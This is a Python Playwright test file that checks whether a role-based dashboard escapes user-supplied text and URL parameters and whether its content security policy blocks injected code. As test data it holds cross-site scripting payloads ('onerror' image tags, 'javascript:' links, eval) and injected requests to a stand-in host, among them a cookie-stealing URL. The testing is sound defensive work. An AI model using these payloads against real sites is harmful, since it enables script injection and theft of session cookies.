"""Texts of others are shown, never run: markup and scripts in every field that people fill, in a real Chromium under the policy."""

from collections.abc import Callable, Iterator, Mapping
from contextlib import ExitStack
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser, Dialog, Page

from tests.browser.server import Server
from tests.browser.visit import Visit, opened
from tests.security import people, poison, table
from tests.security.caller import Caller

# Runs before anything on the page: notes what calls it, what asks for it, and every breach of the policy.
WATCH = """
window.found = [];
window.hacked = number => window.found.push('ran ' + number);
document.addEventListener('securitypolicyviolation', event =>
    window.found.push('policy: ' + event.effectiveDirective + ' ' + event.blockedURI + ' ' + event.sample));
"""
# What would be there if a text had become markup: none of it is ever drawn by us.
BECAME = "img[src=x], [onerror], [onload], [onmouseover], [onfocus], a[href^='javascript:'], svg[onload], script:not([src]):not([type])"
SETTLED = "() => document.querySelector('.desk-title, .scene-headline, .failure, section.card') && !document.querySelector('[data-stale=true]')"


@pytest.fixture
def visit(browser: Browser) -> Iterator[Callable[[], Visit]]:
    """Fresh visits that watch for anything that runs."""
    with ExitStack() as visits:

        def fresh() -> Visit:
            found = visits.enter_context(opened(browser, 1440, 990))
            found.page.add_init_script(WATCH)
            found.page.on("dialog", dismiss(found))
            return found

        yield fresh


def dismiss(visit: Visit) -> Callable[[Dialog], None]:
    """Note a dialog and close it: none of our pages opens one."""

    def note(dialog: Dialog) -> None:
        visit.errors.append(f"dialog {dialog.message}")
        dialog.dismiss()

    return note


def pages_of(role: str) -> list[str]:
    """Addresses of the pages of a role with subjects that hold poison."""
    given = {
        "leader-department": [f"?department={poison.DEPARTMENT}&month=2026-02", "?department=approval&month=2026-02"],
        "leader-brief": [f"?department={poison.DEPARTMENT}&month=2026-02"],
        "supervisor-complaint": [f"?complaint={poison.CASE}"],
        "supervisor-complaints": ["", "?department=taxation"],
        "leader-passport": [f"?month=2026-02&department={one}&figure=score" for one in (poison.DEPARTMENT, "approval")],
        "leader-domain": ["?month=2026-02", "?month=2026-02&domain=D01"],
        "leader-indicator": [f"?month=2026-02&indicator=D01-0{number}" for number in (1, 2, 3)],
        "leader-point": [f"?month=2026-02&point=D01-00{number}" for number in (1, 2, 3)],
        "leader-tasks": ["?month=2026-02"],
        "leader-task": [f"?month=2026-02&task=C-00{number}" for number in (1, 2, 3)],
        "leader-rectification": ["?rectification=R-POISON"],
        "leader-compare": [f"?month=2026-02&department={poison.DEPARTMENT}&against=2026-02&with=approval", ""],
        "leader-search": [f"?q={quote(text)}" for text in ("供水", "靶点", *poison.ALL)],
        "leader-ranking": [f"?group={quote('公用企业与双管单位')}", "", "?view=objections"],
    }
    names = [cell.name for cell in table.of("page", role) if cell.reach]
    return [f"/{'' if name == 'leader-ranking' else name}{query}" for name in names for query in given.get(name, [""])]


def wrong_on(page: Page, address: str) -> list[str]:
    """What has run, or become markup, on a page that has settled."""
    page.wait_for_function(SETTLED)
    page.wait_for_timeout(300)
    became = page.evaluate(
        "selector => [...document.querySelectorAll(selector)].map(found => found.outerHTML.slice(0, 120))", BECAME
    )
    # Streamlit's own shell holds one inline script that has its hash in the policy.
    became = [found for found in became if "window.__streamlit" not in found and "prerenderReady" not in found]
    return [f"{address}: {found}" for found in (*page.evaluate("() => window.found"), *became)]


@pytest.mark.parametrize(
    "role", ["coordinator", "system_administrator", "security_administrator", "audit_administrator", "display"]
)
def test_no_text_of_others_runs(server: Server, visit: Callable[[], Visit], role: str) -> None:
    """Guard: every text is escaped where it is drawn; each role's pages hold poison in whatever people or catalogues fill."""
    here, wrong, seen = visit(), [], ""
    page = here.enter(server.url, role)
    for address in pages_of(role):
        page.goto(server.url + address)
        wrong += wrong_on(page, address)
        seen += page.inner_text("body")
    assert not wrong and not here.refused, "\n" + "\n".join([*wrong, *here.refused])
    assert not [error for error in here.errors if "hacked" in error or "dialog" in error]
    if role not in {"audit_administrator"}:
        assert "hacked(" in seen, "no poison was on these pages: the test proves nothing"


WHO = {"admin-accounts": "system_administrator", "admin-sessions": "security_administrator", "admin-displays": "system_administrator",
       "admin-permissions": "audit_administrator", "admin-trail": "audit_administrator"}  # fmt: skip


def test_no_address_runs(server: Server, visit: Callable[[], Visit]) -> None:
    """Guard: what stands in an address is only ever shown as text, whatever parameter of whatever page it is in."""
    visits: dict[str, Visit] = {}
    wrong = []
    for name, parameters in table.PARAMETERS.items():
        role, path = WHO.get(name, "coordinator"), "/" if name == "leader-ranking" else f"/{name}"
        if role not in visits:
            visits[role] = visit()
            visits[role].enter(server.url, role)
        page = visits[role].page
        text = " ".join(poison.ALL)
        page.goto(f"{server.url}{path}?" + "&".join(f"{parameter}={quote(text)}" for parameter in parameters))
        wrong += wrong_on(page, path)
    refused = [words for one in visits.values() for words in one.refused]
    assert not wrong and not refused, "\n" + "\n".join([*wrong, *refused])


def test_the_sign_in_shows_what_was_typed_as_text(server: Server, visit: Callable[[], Visit]) -> None:
    """Guard: the forms before the pages escape too, and their policy knows no script at all."""
    here = visit()
    page = here.page
    page.goto(f"{server.url}/login?next={quote(poison.SCRIPT)}")
    page.fill("#login", poison.SCRIPT)
    page.fill("#password", poison.IMAGE)
    page.locator("section.sign-in button.main").click()
    page.wait_for_selector('[role="alert"]')
    assert page.input_value("#login") == poison.SCRIPT and page.input_value("#password") == ""
    assert page.evaluate("() => window.found") == [] and page.locator(BECAME).count() == 0
    assert here.refused == []


def test_the_policy_holds_where_escaping_would_not(server: Server, visit: Callable[[], Visit]) -> None:
    """Guard: the second wall: a script, a handler, an eval and a request to another machine, put into a page of ours, are all refused.
    Every refusal is seen by the watch, so that the tests above could fail."""
    here = visit()
    page = here.enter(server.url, "leader")
    page.goto(f"{server.url}/")
    page.wait_for_function(SETTLED)
    page.evaluate("""() => {
        const box = document.body.appendChild(document.createElement('div'));
        box.innerHTML = "<img src=x onerror='hacked(1)'><a id=link href='javascript:hacked(2)'>x</a>";
        const script = document.createElement('script');
        script.textContent = 'hacked(3)';
        box.appendChild(script);
        const outside = document.createElement('script');
        outside.src = 'http://evil.example/x.js';
        box.appendChild(outside);
        const frame = document.createElement('iframe');
        frame.src = 'http://evil.example/';
        box.appendChild(frame);
        const image = new Image();
        image.src = 'http://evil.example/steal?cookie';
        box.querySelector('#link').click();
        fetch('http://evil.example/').catch(() => {});
        // Later, for the debugger that runs this may do what a page may not.
        setTimeout(() => { try { eval('hacked(4)') } catch (error) { window.found.push('policy: eval') } }, 1);
    }""")
    page.wait_for_timeout(700)
    found = page.evaluate("() => window.found")
    assert not [what for what in found if what.startswith("ran")]
    directives = {what.split(" ")[1] for what in found if what.startswith("policy:")}
    assert {"script-src-attr", "script-src-elem", "img-src", "connect-src", "frame-src", "eval"} <= directives, found
    assert not [address for address in here.requests if "evil.example" in address and not refused_to(here, address)]


def refused_to(here: Visit, address: str) -> bool:
    """Whether the browser said that the policy stopped a request; Playwright notes some before they are stopped."""
    return any(address.rstrip("/") in words for words in [*here.refused, *here.errors])


def test_poison_is_in_accounts_and_screens_too(visitors: Mapping[str, Caller]) -> None:
    """The names that administrators give were kept as they were typed."""
    from tests.security import channel

    with channel.opened(visitors["system_administrator"]) as line:
        assert "&lt;img src=x onerror=hacked(8)&gt;" in line.ask("admin-accounts").markup
        assert "&lt;img src=x onerror=hacked(8)&gt;" in line.ask("admin-displays").markup
    assert people.NAME == "<img src=x onerror=hacked(8)>"
